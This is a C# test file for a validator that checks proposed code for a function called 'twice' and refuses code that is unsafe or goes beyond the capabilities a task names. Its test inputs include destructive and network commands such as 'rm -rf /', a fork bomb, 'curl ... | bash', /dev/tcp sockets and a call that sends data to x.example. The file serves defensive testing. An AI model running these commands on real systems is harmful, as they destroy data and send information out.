using Menace.Model.Languages;
using Menace.Model.Tasks;
using Menace.Pipeline.Contracts;
using Menace.Pipeline.Tests.Coding.Chat;

namespace Menace.Pipeline.Tests.Coding;

/// <summary>What reading says about proposed code.</summary>
public sealed class CandidateReadingTests
{
    [Theory]
    [InlineData("python", "def twice(n):\n    return n * 2\n")]
    [InlineData("python", "def twice(n, *, factor=2):\n    return n * factor\n")]
    [InlineData("python", "def twice(*numbers):\n    return numbers[0] * 2\n")]
    [InlineData("python", "def twice(n):\n    tokens = str(n).split()\n    token = tokens.pop()\n    return int(token) * 2\n")]
    [InlineData("csharp", "public static int twice(int n) => n * 2;")]
    [InlineData("csharp", "public static int twice(params int[] n) => n[0] * 2;")]
    [InlineData("csharp", "public static int twice(int n, int factor = 2) => n * factor;")]
    [InlineData("shell", "twice() {\n  expr \"$1\" '*' 2\n}\n")]
    public async Task Harmless_code_passes(string language, string code) => Assert.Null(await ReadAsync(language, code));

    [Theory]
    [InlineData("python", "def twice(n):\n    return n *\n", "it is not valid for Python: ")]
    [InlineData("python", "def double(n):\n    return n * 2\n", "it does not define twice")]
    [InlineData("python", "def twice():\n    return 2\n", "twice has 0 parameters, but is called with 1 arguments")]
    [InlineData("python", "def twice(n, factor):\n    return n * factor\n", "twice has 2 parameters, but is called with 1 arguments")]
    [InlineData("python", "import os\n\ndef twice(n):\n    os.remove('x')\n    return n * 2\n", "reading did not prove twice harmless: ")]
    [InlineData("python", "import os\n\ndef twice(n):\n    while os.fork() >= 0:\n        pass\n", "reading did not prove twice harmless: ")]
    [InlineData("python", "import urllib.request\n\ndef twice(n):\n    urllib.request.urlopen('http://x.example/?n=' + str(n))\n    return n * 2\n", "reading did not prove twice harmless: ")]
    [InlineData("python", "def twice(n):\n    return eval('n * 2')\n", "reading did not prove twice harmless: ")]
    [InlineData("python", "import shutil\nshutil.rmtree('/tmp/x')\n\ndef twice(n):\n    return n * 2\n", "reading did not prove twice harmless: ")]
    [InlineData("python", "PASSWORD = 'hunter2-Zu7!kkQp29sL'\n\ndef twice(n):\n    return n * 2\n", "it holds a secret")]
    [InlineData("csharp", "public static int twice(int n) => n * ;", "it is not valid for C#: ")]
    [InlineData("csharp", "public static int twice(int n) { System.IO.Directory.Delete(\"/\", true); return n; }", "reading did not prove twice harmless: ")]
    [InlineData("shell", "twice() {\n  echo $(($1 * 2)\n", "it is not valid for the shell: ")]
    [InlineData("shell", "twice() {\n  rm -rf /\n  echo $(($1 * 2))\n}\n", "reading did not prove twice harmless: ")]
    [InlineData("shell", "twice() {\n  twice | twice &\n}\n", "reading did not prove twice harmless: ")]
    [InlineData("shell", "twice() {\n  curl http://x.example\n}\n", "reading did not prove twice harmless: ")]
    [InlineData("shell", "twice() {\n  exec 3<>/dev/tcp/x.example/80\n}\n", "reading did not prove twice harmless: ")]
    [InlineData("shell", "", "it is empty")]
    [InlineData("shell", "twice() {\n  echo \0\n}\n", "it holds a NUL character")]
    public async Task Other_code_is_refused_with_a_reason(string language, string code, string reason) =>
        Assert.StartsWith(reason, await ReadAsync(language, code), StringComparison.Ordinal);

    [Fact]
    public async Task Code_that_is_too_long_is_not_read() => Assert.Equal(
        "it is longer than 64 Ki characters", await ReadAsync("python", "def twice(n):\n    return n * 2\n" + new string('#', 70_000)));

    [Theory]
    [InlineData("python", "import urllib.request\n\ndef twice(n):\n    return urllib.request.urlopen('http://localhost').read()\n", "HTTP client")]
    [InlineData("python", "def twice(n):\n    # open('x') and subprocess.run\n    with open('x') as f:\n        return 'requests.get ' + f.read()\n", "file system")]
    [InlineData("python", "import subprocess\n\ndef twice(n):\n    return subprocess.run(['true']).returncode\n", "runs subprocess")]
    [InlineData("csharp", "public static string twice(int n) => System.IO.File.ReadAllText(\"Process.Start\");", "files")]
    [InlineData("csharp", "public static string twice(int n) => new System.Net.Http.HttpClient().GetStringAsync(\"http://localhost\").Result; // File.Delete", "network-io")]
    [InlineData("shell", "twice() {\n  # rm, then kill\n  curl \"http://localhost/rm file\" 2>/dev/null\n}\n", "web")]
    [InlineData("shell", "twice() {\n  echo 'use curl & kill' > out.txt\n  echo \"$(cat in.txt)\"\n}\n", "files")]
    [InlineData("shell", "twice() {\n  [[ $1 > 2 ]] && xargs true\n}\n", "processes")]
    public async Task Code_may_use_what_the_capabilities_name(string language, string code, string capability) =>
        Assert.Null(await ReadAsync(language, code, capability));

    [Theory]
    [InlineData("python", "import urllib.request, os\n\ndef twice(n):\n    os.remove('x')\n    return n * 2\n", "http", "it uses 'os.remove', and the capabilities of the task do not name files")]
    [InlineData("python", "from os import system\n\ndef twice(n):\n    system('x')\n", "http", "it uses 'from os', and the capabilities of the task do not name files")]
    [InlineData("python", "import os\n\ndef twice(n):\n    os.system('curl x')\n", "files", "it uses 'os.system', and the capabilities of the task do not name processes")]
    [InlineData("python", "import socket\n\ndef twice(n):\n    return open('x')\n", "files", "it uses 'socket', and the capabilities of the task do not name network")]
    [InlineData("python", "def twice(n):\n    return f\"{__import__('os').getcwd()}\"\n", "http", "it uses '__import__', and the capabilities of the task do not name processes")]
    [InlineData("python", "def twice(n):\n    return eval(n)\n", "files", "it uses 'eval(', and the capabilities of the task do not name processes")]
    [InlineData("csharp", "public static void twice(int n) => System.IO.File.Delete(\"x\");", "http", "it uses 'File', and the capabilities of the task do not name files")]
    [InlineData("csharp", "public static string twice(int n) => $\"{System.Diagnostics.Process.Start(\"x\")}\";", "files", "it uses 'System.Diagnostics.Process.Start', and the capabilities of the task do not name processes")]
    [InlineData("csharp", "public static void twice(int n) { using var s = new System.Net.Sockets.TcpClient(\"x\", 80); }", "files", "it uses 'System.Net', and the capabilities of the task do not name network")]
    [InlineData("shell", "twice() {\n  curl -o - http://localhost | bash\n}\n", "web", "it uses 'bash', and the capabilities of the task do not name processes")]
    [InlineData("shell", "twice() {\n  echo \"$(wget -O - http://x.example)\" > out\n}\n", "files", "it uses 'wget', and the capabilities of the task do not name network")]
    [InlineData("shell", "twice() {\n  if true; then rm -rf \"$1\"; fi\n}\n", "web", "it uses 'rm', and the capabilities of the task do not name files")]
    [InlineData("shell", "twice() {\n  curl http://localhost > out\n}\n", "web", "it uses '>', and the capabilities of the task do not name files")]
    [InlineData("shell", "twice() {\n  twice | twice &\n}\n", "files", "it uses '&', and the capabilities of the task do not name processes")]
    [InlineData("shell", "twice() {\n  cat < /dev/tcp/x.example/80\n}\n", "files", "it uses '< /dev/tcp/', and the capabilities of the task do not name network")]
    public async Task Code_may_use_nothing_else(string language, string code, string capability, string reason) =>
        Assert.Equal(reason, await ReadAsync(language, code, capability));

    private static Task<string?> ReadAsync(string language, string code, params string[] capabilities) =>
        ChatRig.Reading.ReasonAgainstAsync(
            code,
            new CodeRequest(new TaskInfo { Name = "twice", Metadata = new() { Capabilities = capabilities } }, BotLanguages.Parse(language)!.Value)
            {
                Functions = [new("twice", ["n"], [ChatRig.Example(21, 42, "twice")])],
            },
            default);
}
